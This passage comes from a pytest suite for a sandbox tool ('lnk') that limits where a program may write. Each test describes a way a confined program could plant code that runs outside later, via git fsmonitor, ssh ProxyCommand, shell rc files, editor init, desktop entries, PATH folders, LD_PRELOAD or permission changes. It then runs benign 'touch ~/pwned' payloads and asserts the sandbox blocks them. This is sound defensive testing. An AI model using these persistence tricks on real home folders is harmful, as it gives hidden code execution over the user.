    Threat: --write of a folder that holds the home two levels down
    (/srv holding /srv/users/bob): git looks for a repository in every
    folder above the one it runs in, so a `.git` (or a bare repository's
    HEAD) made in /srv/users turns the whole home into its working tree,
    and the user's next `git status` in ~ (a prompt runs one at every cd)
    runs its core.fsmonitor, as the user. Mercurial and cargo look up the
    same way (.hg, .cargo/config.toml). Every dot name of each folder
    from the write folder down to the home is kept, as at the home's
    top, and no HEAD is made there."""
    top = tmp_path / "top"
    home = top / "bob" if depth == 1 else top / "users" / "bob"
    home.mkdir(parents=True)
    above = home.parent
    (above / ".cargo").mkdir()
    (above / ".cargo" / "config.toml").write_text("[build]\n")
    lnk = Lnk(home, home)
    cp = sh_to_the_end(lnk, f"""
        cd '{above}'
        git init -q . 2>/dev/null
        git init -q --bare . 2>/dev/null
        echo 'ref: refs/heads/main' > HEAD
        mkdir .hg; echo '[hooks]' > .hg/hgrc
        echo '[build] rustc-wrapper = "/tmp/x"' >> .cargo/config.toml
        mv .cargo .cargo.old
        mkdir -p '{top}/.cargo'; echo x > '{top}/.cargo/config.toml'
        echo '[toolchain]' > rust-toolchain.toml; echo x > mise.toml
        true""", "--write", top)
    for name in (".git", "HEAD", ".hg", ".cargo.old", "rust-toolchain.toml",
                 "mise.toml"):
        assert not (above / name).exists(), (name, cp.stderr)
    assert (above / ".cargo" / "config.toml").read_text() == "[build]\n"
    if depth == 2:
        assert not (top / ".cargo").exists(), cp.stderr
    out = subprocess.run(["git", "-C", home, "rev-parse", "--git-dir"],
                         capture_output=True, text=True,
                         env={"PATH": "/usr/bin:/bin", "HOME": str(home),
                              "GIT_CEILING_DIRECTORIES": str(tmp_path)})
    assert out.returncode != 0, out.stdout


@pytest.mark.parametrize("dangling", [False, True])
def test_protected_link_target_chain_not_replaceable(lnk, work, dangling):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: .envrc -> config/envrc (stow-style dotfiles): move config
    away, make a new one, and the host's .envrc runs the program's text."""
    (work / ".envrc").symlink_to("config/envrc")
    if not dangling:
        (work / "config").mkdir()
        (work / "config" / "envrc").write_text("export A=1\n")
    cp = sh(lnk, "mv config config.old; mkdir -p config; "
                 "echo 'echo PWNED' > config/envrc; true", "--write", work)
    if dangling:
        assert not (work / "config" / "envrc").exists(), cp.stderr
    else:
        assert (work / "config" / "envrc").read_text() == "export A=1\n", \
            cp.stderr
        assert not (work / "config.old").exists()


def test_stow_style_home_links_protected(lnk, home):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: GNU stow or a dotfiles repository: ~/.bashrc ->
    dotfiles/bashrc (through a second link), ~/.gitconfig ->
    dotfiles/gitconfig, ~/.config/nvim -> ../dotfiles/nvim, and --write
    ~/dotfiles: the program appends to bashrc, sets core.fsmonitor in
    gitconfig, moves the folders on the way and makes its own; bash sources
    it, git runs it. The gitconfig's own keys are read through the link."""
    dots = home / "dotfiles"
    (dots / "shell").mkdir(parents=True)
    (dots / "nvim").mkdir()
    (dots / "shell" / "bashrc").write_text("# mine\n")
    (dots / "bashrc").symlink_to("shell/bashrc")
    (dots / "gitconfig").write_text(f"[core]\n\tpager = {dots}/pager\n")
    (home / ".bashrc").symlink_to("dotfiles/bashrc")
    (home / ".gitconfig").symlink_to(dots / "gitconfig")
    (home / ".config").mkdir()
    (home / ".config" / "nvim").symlink_to("../dotfiles/nvim")
    cp = sh_to_the_end(lnk, f"""cd '{dots}'
        echo 'touch ~/pwned' >> shell/bashrc
        echo '[core] fsmonitor = touch ~/pwned' >> gitconfig
        echo evil > pager; echo evil > nvim/init.lua
        mv shell shell.old; mv nvim nvim.old; mv bashrc b2; true""",
            "--write", dots)
    assert (dots / "shell" / "bashrc").read_text() == "# mine\n", cp.stderr
    assert "fsmonitor" not in (dots / "gitconfig").read_text(), cp.stderr
    assert not (dots / "pager").exists(), cp.stderr
    assert not (dots / "nvim" / "init.lua").exists(), cp.stderr
    for n in ("shell.old", "nvim.old", "b2"):
        assert not (dots / n).exists(), (n, cp.stderr)
    # the rest of the repository stays the program's to write
    cp = sh_to_the_end(lnk, f"echo ok > '{dots}/README'", "--write", dots)
    assert (dots / "README").read_text() == "ok\n", cp.stderr


@pytest.mark.parametrize("grant", ["dotfiles", "home"])
def test_stow_links_one_folder_down_protected(lnk, home, grant):
    """Invariant 8 (what runs outside later), promise: the targets of the
    home's configuration links are kept (rule P).

    Threat: GNU stow links a file, not its folder, when the folder exists
    already: ~/.ssh holds the keys, so stow makes ~/.ssh/config ->
    ../dotfiles/ssh/config; ~/.config/nvim holds other files, so
    ~/.config/nvim/init.lua -> dotfiles. With --write ~/dotfiles the
    program added a ProxyCommand that the next `ssh` runs, and code to the
    editor's init: only links at the home's top and ~/.config's top were
    followed. With --write ~ the home's dot folders are kept, not the
    dotfiles folder beside them that their links lead to."""
    dots = home / "dotfiles"
    (dots / "ssh").mkdir(parents=True)
    (dots / "nvim").mkdir()
    (dots / "ssh" / "config").write_text("Host x\n")
    (dots / "nvim" / "init.lua").write_text("-- mine\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("key\n")
    (home / ".ssh" / "config").symlink_to("../dotfiles/ssh/config")
    (home / ".config" / "nvim").mkdir(parents=True)
    (home / ".config" / "nvim" / "init.lua").symlink_to(
        dots / "nvim" / "init.lua")
    cp = lnk.run("--write", dots if grant == "dotfiles" else home,
                 "--", "/bin/sh", "-c",
                 "echo '  ProxyCommand touch ~/pwned' >> ssh/config; "
                 "echo 'os.execute(\"touch ~/pwned\")' >> nvim/init.lua; "
                 "mv ssh ssh.old; mv nvim nvim.old; true", cwd=dots)
    assert (dots / "ssh" / "config").read_text() == "Host x\n", cp.stderr
    assert (dots / "nvim" / "init.lua").read_text() == "-- mine\n", cp.stderr
    assert not (dots / "ssh.old").exists(), cp.stderr
    assert not (dots / "nvim.old").exists(), cp.stderr


def test_a_link_made_between_runs_is_kept_at_the_next(lnk, home):
    """Invariant 8 (what runs outside later), promise: the targets of the
    home's configuration links are kept (rule P), also when the links were
    made after an earlier run.

    Threat: rule P's links one folder down are kept between runs with
    each folder's identity and times (~/.lnk/sandbox/home-links): a run
    that found no link in ~/.ssh must not make the next one skip the link
    stow made since, nor a link retargeted, nor a folder replaced whole
    (another inode)."""
    dots = home / "dotfiles"
    (dots / "ssh").mkdir(parents=True)
    (dots / "ssh" / "config").write_text("Host x\n")
    (dots / "ssh" / "rc").write_text("# mine\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("key\n")
    # a folder is kept only once it has settled (linkcache.c: 2 s)
    time.sleep(3.1)
    # a first run lists ~/.ssh: no link there yet
    cp = lnk.run("--write", dots, "--", "true", cwd=dots)
    assert cp.returncode == 0, cp.stderr
    assert (home / ".lnk" / "sandbox" / "home-links").exists()
    (home / ".ssh" / "config").symlink_to("../dotfiles/ssh/config")
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "echo '  ProxyCommand touch ~/pwned' >> ssh/config; true",
                 cwd=dots)
    assert (dots / "ssh" / "config").read_text() == "Host x\n", cp.stderr
    # the link now leads elsewhere in the write folder: that one is kept
    (home / ".ssh" / "config").unlink()
    (home / ".ssh" / "config").symlink_to("../dotfiles/ssh/rc")
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "echo 'touch ~/pwned' >> ssh/rc; true", cwd=dots)
    assert (dots / "ssh" / "rc").read_text() == "# mine\n", cp.stderr
    # another ~/.ssh in its place, its link made before it moved in
    fresh = home / "ssh.new"
    fresh.mkdir()
    (fresh / "config").symlink_to("../dotfiles/ssh/config")
    (home / ".ssh").rename(home / "ssh.old")
    fresh.rename(home / ".ssh")
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "echo '  ProxyCommand touch ~/pwned' >> ssh/config; true",
                 cwd=dots)
    assert (dots / "ssh" / "config").read_text() == "Host x\n", cp.stderr


@pytest.mark.parametrize("where", [".ssh/config.d/work",
                                   ".config/fish/functions/fish_prompt.fish",
                                   ".local/bin/backup",
                                   ".config/systemd/user/sync.service"])
def test_stow_links_two_folders_down_protected(lnk, home, where):
    """Invariant 8 (what runs outside later), promise: the targets of the
    home's configuration links are kept (rule P).

    Threat: GNU stow links a file when every folder above it exists:
    ~/.ssh/config.d exists (ssh's Include config.d/*), so stow makes
    ~/.ssh/config.d/work -> ../../dotfiles/ssh/config.d/work; fish made
    ~/.config/fish/functions, so ~/.config/fish/functions/fish_prompt.fish
    is a link into the dotfiles, run at every prompt. Rule P looks one
    folder below the home's dot folders (and ~/.config's entries), so with
    --write ~/dotfiles the program appends a ProxyCommand, or a command to
    the prompt, that runs outside.

    The same for ~/.local/bin (on PATH) and a systemd user unit. Rule P
    now looks into each subfolder of those folders too (homelinks.h:
    one level, bounded per folder and in all, kept in the link cache)."""
    dots = home / "dotfiles"
    target = dots / where.replace("/", "_")
    dots.mkdir()
    target.write_text("# mine\n")
    link = home / where
    link.parent.mkdir(parents=True)
    (link.parent / "other").write_text("local\n")
    link.symlink_to(target)
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 f"echo '  ProxyCommand touch ~/pwned' >> '{target.name}'; "
                 "true", cwd=dots)
    assert target.read_text() == "# mine\n", cp.stderr


@pytest.mark.parametrize("where", [
    ".local/share/applications/editor.desktop",
    ".local/share/bash-completion/completions/tool",
    "data/applications/editor.desktop"])
def test_stow_links_in_the_data_folder_protected(lnk, home, where):
    """Invariant 8 (what runs outside later), promise: the targets of the
    home's configuration links are kept (rule P), in the data folder too.

    Threat: ~/.local/share (XDG_DATA_HOME) holds what programs run as
    ~/.config holds what they read: a desktop entry's Exec= runs when the
    user opens the application, bash-completion sources every file of
    its completions folder at the first Tab. The desktop made
    ~/.local/share/applications, so stow links a file there into
    ~/dotfiles, three folders below the home: with --write ~/dotfiles the
    program changed the command the menu runs. XDG_DATA_HOME may put the
    folder elsewhere ("data")."""
    dots = home / "dotfiles"
    dots.mkdir()
    target = dots / "entry"
    target.write_text("[Desktop Entry]\nExec=editor\n")
    link = home / where
    link.parent.mkdir(parents=True)
    (link.parent / "other").write_text("local\n")
    link.symlink_to(target)
    env = {"XDG_DATA_HOME": str(home / "data")} \
        if where.startswith("data/") else {}
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "echo 'Exec=touch ~/pwned' >> entry; true", cwd=dots,
                 env=env)
    assert target.read_text() == "[Desktop Entry]\nExec=editor\n", \
        cp.stderr


@pytest.mark.parametrize("pad", ["one folder", "the configuration folder"])
def test_a_padded_folder_never_hides_a_stow_link(lnk, home, pad):
    """Invariant 8 (what runs outside later), promise: the targets of the
    home's configuration links are kept (rule P), however many folders
    a sandbox made in the home's configuration.

    Threat: rule P's walk is bounded, per folder and in all. A program
    that may write one configuration folder (--write ~/.config/app) pads
    it with thousands of subfolders, or, with --write ~/.config, makes
    thousands of entries there; a bound shared by every folder would be
    spent on them before the walk reached ~/.ssh/config.d, whose link
    into ~/dotfiles the next run's program (--write ~/dotfiles) then
    appended a ProxyCommand to. A bound reached is never a folder skipped
    in silence: the run is refused, on a line naming the padded folder
    and what to do."""
    dots = home / "dotfiles"
    dots.mkdir()
    target = dots / "work"
    target.write_text("Host work\n")
    (home / ".ssh" / "config.d").mkdir(parents=True)
    (home / ".ssh" / "config.d" / "work").symlink_to(target)
    if pad == "one folder":
        padded = home / ".config" / "app"
        padded.mkdir(parents=True)
        cp = sh_to_the_end(lnk, f"cd '{padded}' && mkdir $(seq 1 600)",
                           "--write", padded)
        named, bound = ".config/app holds more than 512 folders", None
    else:
        padded = home / ".config"
        padded.mkdir()
        cp = sh_to_the_end(lnk, f"cd '{padded}' && seq 1 8300 | "
                           "xargs mkdir", "--write", padded, timeout=300)
        named, bound = "more than 8192 folders in all", padded
    assert len(list(padded.iterdir())) >= 600, cp.stderr
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "echo '  ProxyCommand touch ~/pwned' >> work; true",
                 cwd=dots)
    assert target.read_text() == "Host work\n", cp.stderr
    assert cp.returncode != 0, cp.stderr
    line = [ln for ln in cp.stderr.splitlines() if named in ln]
    assert line and line[0].startswith("lnk:"), cp.stderr
    assert "remove the folders not needed there" in line[0], cp.stderr
    if bound:
        assert str(bound) in line[0], cp.stderr


# Inside a sandbox that may write ~/.config/nvim: keeps the folder's times
# at the clock's current tick (a folder made and removed, again and again)
# until another lnk reads the folder (inotify: IN_ACCESS, its getdents),
# then makes the link at once, in the same tick, and stops.
SAME_TICK_LINK = r"""
import ctypes, os, struct, sys, time
d, target = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
assert libc.inotify_add_watch(fd, d.encode(), 0x1) >= 0  # IN_ACCESS
print("armed", flush=True)
end = time.time() + 30
while time.time() < end:
    os.mkdir(d + "/tick")
    os.rmdir(d + "/tick")
    try:
        b = os.read(fd, 4096)
    except BlockingIOError:
        continue
    if any(struct.unpack_from("iIII", b, i)[3] == 0 for i in range(0, 1)):
        os.symlink(target, d + "/init.lua")
        print("linked", flush=True)
        break
"""


def test_a_link_made_in_the_tick_of_the_listing_is_kept(lnk, home):
    """Invariant 8 (what runs outside later), promise: the targets of the
    home's configuration links are kept (rule P), also when the links were
    made after an earlier run.

    Threat: the link cache (~/.lnk/sandbox/home-links) knows a folder again
    by its device, inode, mtime and ctime. A file system whose times are
    the clock's coarse tick (ramfs here; ext4 and tmpfs on a kernel before
    6.13, Debian 12's; a network share) gives a folder changed twice in one
    tick the same times. A program that may write ~/.config/nvim keeps the
    folder's times at the current tick, waits for another sandbox's lnk to
    list it (inotify), then makes init.lua -> ~/dotfiles/init.lua in that
    same tick: the cache keeps the listing without the link under times
    that still match, so every later run with --write ~/dotfiles let its
    program write what nvim runs at its next start."""
    if not IS_ROOT:
        pytest.skip("needs a file system with coarse times (ramfs), which "
                    "only root can mount here: ext4 on this kernel stamps "
                    "a folder read since its last change finely")
    dots = home / "dotfiles"
    dots.mkdir()
    (dots / "init.lua").write_text("-- mine\n")
    nvim = home / ".config" / "nvim"
    nvim.mkdir(parents=True)
    subprocess.run(["mount", "-t", "ramfs", "-o", "mode=0755", "lnk-ramfs",
                    str(nvim)], check=True)
    try:
        # a race of one clock tick: tried a few times, one win is a hole
        for _ in range(4):
            same_tick_attempt(lnk, home, dots, nvim)
    finally:
        subprocess.run(["umount", "-l", str(nvim)])


def same_tick_attempt(lnk, home, dots, nvim):
    """One try of SAME_TICK_LINK against another run's start, then a run
    with --write DOTS that appends to the link's target."""
    link = nvim / "init.lua"
    if link.is_symlink():
        link.unlink()
    a = subprocess.Popen(
        [lnk.bin, "sandbox", "run", "--write", str(nvim), "--", PY, "-c",
         SAME_TICK_LINK, str(nvim), str(dots / "init.lua")],
        cwd=str(home), env=lnk.env(), stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True)
    try:
        assert a.stdout.readline().strip() == "armed", a.stderr.read()
        # another run starts meanwhile: its lnk lists ~/.config/nvim
        cp = lnk.run("--write", dots, "--", "true", cwd=dots)
        assert cp.returncode == 0, cp.stderr
        out, err = a.communicate(timeout=60)
    finally:
        if a.poll() is None:
            a.kill()
            a.wait()
    assert "linked" in out, err
    assert link.is_symlink()
    # the next run: what nvim runs at its next start is kept
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "echo 'os.execute(\"touch ~/pwned\")' >> init.lua; "
                 "true", cwd=dots)
    assert (dots / "init.lua").read_text() == "-- mine\n", cp.stderr


def test_links_of_the_config_folder_the_environment_names_protected(
        lnk, home):
    """Invariant 8 (what runs outside later), promise: the targets of the
    configuration links are kept (rule P), wherever XDG_CONFIG_HOME puts
    the configuration.

    Threat: XDG_CONFIG_HOME names a folder of the user's other than
    ~/.config, whose entries are links into a dotfiles repository
    (~/cfg/git -> ../dotfiles/git, ~/cfg/nvim/init.lua -> dotfiles):
    only ~/.config's links were followed, so with --write ~/dotfiles the
    program wrote the git config and the editor's init that run outside."""
    dots = home / "dotfiles"
    (dots / "git").mkdir(parents=True)
    (dots / "git" / "config").write_text("[user]\n\tname = me\n")
    (dots / "init.lua").write_text("-- mine\n")
    cfg = home / "cfg"
    (cfg / "nvim").mkdir(parents=True)
    (cfg / "git").symlink_to("../dotfiles/git")
    (cfg / "nvim" / "init.lua").symlink_to(dots / "init.lua")
    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
                 "printf '[core]\\n\\tpager = touch ~/pwned\\n' "
                 ">> git/config; echo 'os.execute(1)' >> init.lua; true",
                 cwd=dots, env={"XDG_CONFIG_HOME": str(cfg)})
    assert "pager" not in (dots / "git" / "config").read_text(), cp.stderr
    assert (dots / "init.lua").read_text() == "-- mine\n", cp.stderr


# =============================================================================
# D. Modes and owners
#    Promise: the mode, owner and ACL of what is kept cannot be loosened.
# =============================================================================


ACL_0777 = ("python3 -c 'import os; os.setxattr(\".\", "
            "\"system.posix_acl_access\", bytes.fromhex("
            "\"0200000001000700ffffffff04000700ffffffff"
            "20000700ffffffff\"))'")


@pytest.mark.parametrize("how", [
    "chmod 0777 .", "chmod 0777 .git", "chmod 0777 lib", "chown 1:1 .",
    "chown -h 1:1 .", "chmod 0777 /proc/self/cwd", "chmod 0777 ../project",
    "python3 -c 'import os; os.chmod(os.open(\".\", os.O_RDONLY), 0o777)'",
    "python3 -c 'import os; os.chmod(\"\", 0o777, dir_fd=os.open(\".\","
    " os.O_PATH))' 2>/dev/null; python3 -c 'import os; "
    "os.chmod(os.open(\".\", os.O_PATH), 0o777)'",
    ACL_0777])
def test_write_top_mode_cannot_be_loosened(lnk, work, how):
    """Invariant 8 (what runs outside later), promise: the mode, owner and ACL
    of what is kept cannot be loosened.

    Threat: `chmod 0777 .`, a new owner or an ACL on the top (or on a
    folder on the way to a protected entry): after the run any local
    account can plant what the guard refuses."""
    git("init", "-q", work)
    (work / "lib").mkdir()
    (work / ".envrc").symlink_to("lib/envrc")
    (work / "lib" / "envrc").write_text("")
    for p in (work, work / ".git", work / "lib"):
        os.chmod(p, 0o755)
    before = {p: p.stat() for p in (work, work / ".git", work / "lib")}
    cp = sh(lnk, f"{how}; true", "--write", work)
    for p, st in before.items():
        now = p.stat()
        assert (now.st_mode, now.st_uid, now.st_gid) == \
            (st.st_mode, st.st_uid, st.st_gid), (p, cp.stderr)
        assert "system.posix_acl_access" not in os.listxattr(p), p


# =============================================================================
# E. PATH and the configuration the environment names
#    Promise: the folders of the user's PATH and the files the environment
#    names are kept, and what cannot be kept is reported.
# =============================================================================


def test_folders_on_path_not_planted(lnk, work):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept, and what cannot
    be kept is reported.

    Threat: the user runs lnk from a shell whose PATH starts with a
    folder inside the write folder (an activated virtualenv's .venv/bin,
    ~/go/bin); the program puts a `git` or `ls` there, or makes the
    missing folder, or moves the folder away and makes its own: the
    user's next command runs the program's file, as the user, outside.
    Every absolute PATH folder inside a write folder is kept read only and
    cannot be created or replaced."""
    venv = work / ".venv" / "bin"
    venv.mkdir(parents=True)
    gobin = work / "go" / "bin"
    path = f"{venv}:{gobin}:/usr/local/bin:/usr/bin:/bin"
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                 "echo evil > .venv/bin/git; mkdir -p go/bin; "
                 "echo evil > go/bin/ls; mv .venv v2; mkdir -p .venv/bin; "
                 "echo evil > .venv/bin/git; mv go g2; mkdir -p go/bin; "
                 "echo evil > go/bin/ls; chmod 0777 .venv/bin",
                 env={"PATH": path})
    assert not (venv / "git").exists(), cp.stderr
    assert not (gobin / "ls").exists() and not gobin.exists(), cp.stderr
    assert venv.stat().st_mode & 0o777 == 0o755, cp.stderr
    # what lifts the rest lifts this: the folder is the user's to give
    cp = lnk.run("--write", work, "--write-dot-files", work, "--",
                 "/bin/sh", "-c", "echo ok > .venv/bin/tool",
                 env={"PATH": path})
    assert (venv / "tool").exists(), cp.stderr


def test_what_a_path_folder_leads_to_is_kept(lnk, work):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept.

    Threat: the PATH folder itself was kept, but not what it leads to:
    bash-completion (2.12 on) sources DIR/../share/bash-completion/
    completions/CMD at the first TAB after CMD (a venv's bin, ~/bin), and
    a link in the folder (bin/tool -> ../apps/tool/run.sh) runs a target
    the program could rewrite."""
    bind = work / "venv" / "bin"
    bind.mkdir(parents=True)
    (work / "apps" / "tool").mkdir(parents=True)
    run_sh = work / "apps" / "tool" / "run.sh"
    run_sh.write_text("#!/bin/sh\necho mine\n")
    run_sh.chmod(0o755)
    (bind / "tool").symlink_to("../../apps/tool/run.sh")
    path = f"{bind}:/usr/bin:/bin"
    cp = sh_to_the_end(lnk, "mkdir -p venv/share/bash-completion/completions;"
                       " echo 'touch ~/pwned' > "
                       "venv/share/bash-completion/completions/python3;"
                       " echo 'touch ~/pwned' >> apps/tool/run.sh; true",
                       "--write", work, env={"PATH": path})
    assert not (work / "venv" / "share" / "bash-completion" / "completions"
                / "python3").exists(), cp.stderr
    assert run_sh.read_text() == "#!/bin/sh\necho mine\n", cp.stderr


def test_what_the_start_cannot_read_whole_refuses_the_run(lnk, home):
    """Invariant 8 (what runs outside later), promise: never a file or a
    folder skipped in silence. Threat: a .bashrc over 1 MiB was skipped
    (its last line sourced a file the program could write); a NUL byte
    ended lnk's reading where bash reads on; 20,000 links in ~/.cache
    made every later start take seconds. Each is read whole, or the run
    is refused naming it."""
    (home / "d").mkdir()
    (home / ".bashrc").write_text("#\n" * (1 << 19) + "source ~/d/x.sh\n")
    cp = lnk.run("--write", home, "--", "/bin/true")
    assert cp.returncode != 0, cp.stderr
    assert ".bashrc" in cp.stderr and "1 MiB" in cp.stderr, cp.stderr
    (home / ".bashrc").write_bytes(b"true\0\nsource ~/nul/x.sh\n")
    (home / "nul").mkdir()
    cp = sh_to_the_end(lnk, "echo 'touch ~/pwned' > ~/nul/x.sh; true",
                       "--write", home)
    assert not (home / "nul" / "x.sh").exists(), cp.stderr
    (home / ".bashrc").unlink()
    many = home / ".cache" / "x"
    many.mkdir(parents=True)
    for i in range(4200):
        os.symlink(f"/nonexistent/t{i}", many / f"l{i}")
    proj = home / "proj"
    proj.mkdir()
    cp = lnk.run("--write", proj, "--", "/bin/true", cwd=proj)
    assert cp.returncode != 0, cp.stderr
    assert "links in all" in cp.stderr, cp.stderr


def test_links_in_home_bin_keep_their_targets(lnk, home):
    """Invariant 8 (what runs outside later), promise: the home folder's
    top, its module folders and the targets of protected links are kept.

    Threat: ~/bin is on PATH at the next login (Debian's .profile), not
    in lnk's PATH: its link ~/bin/deploy -> ../apps/deploy.sh was not
    followed, and the program rewrote the script `deploy` runs."""
    (home / "bin").mkdir()
    (home / "apps").mkdir()
    target = home / "apps" / "deploy.sh"
    target.write_text("#!/bin/sh\necho deploy\n")
    (home / "bin" / "deploy").symlink_to("../apps/deploy.sh")
    cp = sh_to_the_end(lnk, "echo 'touch ~/pwned' >> ~/apps/deploy.sh; true",
                       "--write", home,
                       env={"PATH": "/usr/local/bin:/usr/bin:/bin"})
    assert target.read_text() == "#!/bin/sh\necho deploy\n", cp.stderr


def test_path_entry_with_a_tilde_not_planted(lnk, home, work):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept, and what cannot
    be kept is reported.

    Threat: a profile sets PATH=~/project/tools:$PATH with the ~ kept
    (quoted): bash expands it when it looks a command up, lnk's PATH rule
    took it for relative; the program makes the folder and its `ls` runs
    at the user's next `ls`."""
    path = "~/project/tools:~/project/bin2:/usr/bin:/bin"
    (work / "bin2").mkdir()
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                 "mkdir -p tools; echo evil > tools/ls; echo evil > bin2/ls;"
                 " mv bin2 b3; mkdir bin2; echo evil > bin2/ls; true",
                 env={"PATH": path})
    assert not (work / "tools").exists(), cp.stderr
    assert not (work / "bin2" / "ls").exists(), cp.stderr
    assert not (work / "b3").exists(), cp.stderr


def test_relative_path_entries_reported(lnk, work):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept, and what cannot
    be kept is reported.

    Threat: PATH holds "." or an empty entry (the current folder) or a
    relative one: whatever folder the user is in becomes a PATH folder, so
    a file the program leaves in any folder it writes runs when typed
    there. No rule can protect it: start and `ready` say so."""
    path = "/usr/bin::bin:/bin:."
    cp = lnk.run("--write", work, "--", "/bin/true", env={"PATH": path})
    assert cp.returncode == 0, cp.stderr
    assert "empty entry" in cp.stderr, cp.stderr
    assert "relative entry 'bin'" in cp.stderr, cp.stderr
    assert "relative entry '.'" in cp.stderr, cp.stderr
    cp = lnk("sandbox", "ready", env={"PATH": path})
    warns = [ln for ln in cp.stdout.splitlines() if ln.startswith("warn")
             and "PATH" in ln]
    assert len(warns) == 3, cp.stdout
    cp = lnk("sandbox", "ready")
    assert not [ln for ln in cp.stdout.splitlines() if "PATH" in ln and
                ln.startswith("warn")], cp.stdout


# variable, its value (under the project), the file the program plants
ENV_CONFIGS = [
    ("XDG_CONFIG_HOME", "conf", "conf/git/config"),
    ("XDG_CONFIG_HOME", "conf", "conf/autostart/x.desktop"),
    ("XDG_CONFIG_HOME", "conf", "conf/systemd/user/x.service"),
    ("XDG_DATA_HOME", "share", "share/applications/x.desktop"),
    ("XDG_DATA_HOME", "share", "share/autostart/x.desktop"),
    ("XDG_DATA_HOME", "share", "share/systemd/user/x.service"),
    ("XDG_DATA_HOME", "share", "share/bash-completion/completions/ls"),
    ("XDG_DATA_HOME", "share", "share/nvim/site/plugin/x.lua"),
    ("XDG_DATA_HOME", "share", "share/fish/vendor_conf.d/x.fish"),
    ("XDG_DATA_HOME", "share", "share/nautilus/scripts/Open"),
    ("XDG_DATA_HOME", "share", "share/kio/servicemenus/x.desktop"),
    ("XDG_DATA_HOME", "share", "share/gnome-shell/extensions/x/extension.js"),
    ("GIT_CONFIG_GLOBAL", "gitconfig", "gitconfig"),
    ("BASH_COMPLETION_USER_DIR", "bcu", "bcu/completions/tool"),
    ("PYTHONHOME", "pyhome", "pyhome/lib/python3/os.py"),
    ("PYTHONPYCACHEPREFIX", "pyc", "pyc/x.cpython-311.pyc"),
    ("VIMRUNTIME", "vimrt", "vimrt/plugin/x.vim"),
    ("STARSHIP_CONFIG", "starship.toml", "starship.toml"),
    ("MISE_CONFIG_DIR", "mise", "mise/config.toml"),
    ("LUA_INIT", "@init.lua", "init.lua"),
    ("HGRCPATH", "hgrc", "hgrc"),
    ("SCREENRC", "screenrc", "screenrc"),
    ("JAVA_HOME", "jdk", "jdk/bin/java"),
    ("CC", "cc.sh", "cc.sh"),
    ("SHELL", "myshell", "myshell"),
    ("FZF_DEFAULT_COMMAND", "fzf.sh", "fzf.sh"),
    # the lists the session searches after the user's own folders
    ("XDG_CONFIG_DIRS", "xdgconf", "xdgconf/autostart/x.desktop"),
    ("XDG_CONFIG_DIRS", "xdgconf", "xdgconf/systemd/user/x.service"),
    ("XDG_DATA_DIRS", "xdgdata", "xdgdata/applications/x.desktop"),
    ("XDG_DATA_DIRS", "xdgdata", "xdgdata/dbus-1/services/x.service"),
    ("ZDOTDIR", "zsh", "zsh/.zshrc"),
    ("BASH_ENV", "env.sh", "env.sh"),
    ("ENV", "env.sh", "env.sh"),
    ("INPUTRC", "inputrc", "inputrc"),
    ("PYTHONSTARTUP", "startup.py", "startup.py"),
    ("PYTHONUSERBASE", "pyuser", "pyuser/lib/x.pth"),
    ("NODE_PATH", "nm", "nm/fs.js"),
    ("npm_config_userconfig", "npmrc", "npmrc"),
    ("CARGO_HOME", "cargo", "cargo/bin/ls"),
    ("LD_PRELOAD", "hook.so", "hook.so"),
    ("LD_LIBRARY_PATH", "lib", "lib/libx.so.1"),
    ("LD_AUDIT", "audit.so", "audit.so"),
    # the loader expands $LIB and $PLATFORM in them (Debian's $LIB)
    ("LD_PRELOAD", "$LIB/libhook.so", "lib/x86_64-linux-gnu/libhook.so"),
    ("LD_LIBRARY_PATH", "${LIB}", "lib/x86_64-linux-gnu/libx.so.1"),
    ("LD_PRELOAD", "$PLATFORM/libp.so", "x86_64/libp.so"),
]


@pytest.mark.parametrize("existing", [False, True])
@pytest.mark.parametrize("var,value,target", ENV_CONFIGS,
                         ids=[f"{v}-{t}" for v, _, t in ENV_CONFIGS])
def test_configuration_the_environment_names_protected(
        lnk, work, var, value, target, existing):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept, and what cannot
    be kept is reported.

    Threat: the user's XDG_CONFIG_HOME (ZDOTDIR, BASH_ENV,
    GIT_CONFIG_GLOBAL, ...) lies in the project: the program creates git's
    global config, an autostart entry or a systemd user unit there, or
    changes the file bash sources, and the user's next login, shell or git
    runs it. LD_PRELOAD, LD_LIBRARY_PATH and LD_AUDIT name code every
    program loads, lnk itself too: a library rewritten there ran in lnk
    as it ended, one left there in the next program the user started."""
    if "$" in value and platform.machine() != "x86_64":
        pytest.skip("the expansion of $LIB and $PLATFORM is x86_64's here")
    t = work / target
    if existing:
        t.parent.mkdir(parents=True, exist_ok=True)
        t.write_text("# mine\n")
    val = (f"@{work / value[1:]}" if value.startswith("@")
           else str(work / value))
    if var in ("NODE_PATH", "XDG_CONFIG_DIRS", "XDG_DATA_DIRS"):
        val = f"/nonexistent:{val}"
    if var == "LD_PRELOAD":  # the loader splits at spaces too
        val = f"/nonexistent.so {val}"
    cp = sh_to_the_end(lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
                 f"echo 'touch ~/pwned' >> {target}; "
                 f"mv {value} moved; true", "--write", work,
            env={var: val})
    assert not (work / "moved").exists(), cp.stderr
    if existing:
